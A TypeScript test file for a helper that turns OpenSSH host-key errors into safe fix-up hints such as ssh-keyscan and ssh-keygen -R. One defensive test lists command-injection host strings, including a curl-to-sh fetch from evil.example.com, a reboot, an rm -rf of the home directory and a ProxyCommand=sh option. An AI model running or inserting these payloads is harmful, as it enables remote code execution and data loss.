import { hostKeyHint } from './host-key-hint';

// ssh's own words (OpenSSH 9.2), as a deploy's stderr holds them.
const UNKNOWN = 'No ED25519 host key is known for web1 and you have requested strict checking.\r\nHost key verification failed.';
const CHANGED = [
  '@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@',
  '@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @',
  'Host key for web4 has changed and you have requested strict checking.',
  'Host key verification failed.',
].join('\n');

describe('hostKeyHint', () => {
  it('names ssh-keyscan, the fingerprint check and accept-new with a known_hosts path for an unknown key', () => {
    const hint = hostKeyHint(UNKNOWN)!;
    expect(hint).toContain('ssh does not know the host key of web1');
    expect(hint).toContain('ssh-keyscan web1');
    expect(hint).toContain('ssh-keygen -lf');
    expect(hint).toContain('compare the fingerprint with the one the machine itself shows');
    expect(hint).toContain('"StrictHostKeyChecking accept-new" with a "UserKnownHostsFile" path');
  });

  // ssh names the host as it looked the key up: an alias, a name with dots, an address with its port.
  it.each(['web1.example.org', '10.0.0.5', 'fe80::1%eth0'])('names the whole host %s in the commands', (host) => {
    const hint = hostKeyHint(UNKNOWN.replace('web1', host))!;
    expect(hint).toContain(`ssh does not know the host key of ${host}.`);
    expect(hint).toContain(`ssh-keyscan ${host} > /tmp/${host}.key; ssh-keygen -lf /tmp/${host}.key`);
  });

  // ssh-keyscan reads no [host]:port (getaddrinfo fails on it) and an unquoted [..] is a glob in zsh.
  it('turns [host]:port into ssh-keyscan -p and quotes it for ssh-keygen -R', () => {
    const unknown = hostKeyHint(UNKNOWN.replace('web1', '[10.0.0.5]:2222'))!;
    expect(unknown).toContain('ssh does not know the host key of [10.0.0.5]:2222.');
    expect(unknown).toContain('ssh-keyscan -p 2222 10.0.0.5 > /tmp/10.0.0.5_2222.key; ssh-keygen -lf /tmp/10.0.0.5_2222.key');
    expect(unknown).toContain('cat /tmp/10.0.0.5_2222.key >> ~/.ssh/known_hosts');
    const changed = hostKeyHint(CHANGED.replace('web4', '[bastion.lan]:2222'))!;
    expect(changed).toContain("ssh-keygen -R '[bastion.lan]:2222'");
    expect(changed).toContain('ssh-keyscan -p 2222 bastion.lan > /tmp/bastion.lan_2222.key');
  });

  // The text is a remote command's whole stderr: the target can print a line that looks like ssh's.
  it.each([
    '$(curl${IFS}-s${IFS}evil.example.com/x|sh)',
    '`reboot`',
    'web1;rm${IFS}-rf${IFS}~',
    '-oProxyCommand=sh',
    '[$(id)]:22',
    '[web1]:22;id',
  ])('never pastes a host like %j into a command', (host) => {
    for (const text of [UNKNOWN.replace('web1', host), CHANGED.replace('web4', host)]) {
      const hint = hostKeyHint(text)!;
      expect(hint).not.toContain(host);
      expect(hint).toContain('ssh-keyscan <host> > /tmp/<host>.key');
    }
  });

  it.each([
    ['No ED25519 host key is known for web1.lan.', 'web1.lan'],
    ['No ECDSA host key is known for web1.lan.\r\nHost key verification failed.', 'web1.lan'],
    // ssh's last words only: the fix still names the commands, for a host it cannot name.
    ['Host key verification failed.', '<host>'],
  ])('reads %j as an unknown key of %s', (text, host) => {
    expect(hostKeyHint(text)).toContain(`ssh does not know the host key of ${host}. Fetch it and check it (ssh-keyscan ${host} `);
  });

  it('says a changed key may be another machine, and to check before replacing it', () => {
    const hint = hostKeyHint(CHANGED)!;
    expect(hint).toContain('The host key of web4 changed');
    expect(hint).toContain('ssh-keygen -R web4');
    expect(hint).not.toContain('accept-new');
  });

  it('takes the banner alone for a changed key', () => {
    const hint = hostKeyHint('@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @')!;
    expect(hint).toContain('The host key of <host> changed');
    expect(hint).toContain('ssh-keygen -R <host>');
  });

  it('says nothing for other failures', () => {
    expect(hostKeyHint('ssh: connect to host web1 port 22: Connection refused')).toBeUndefined();
    expect(hostKeyHint('')).toBeUndefined();
  });
});
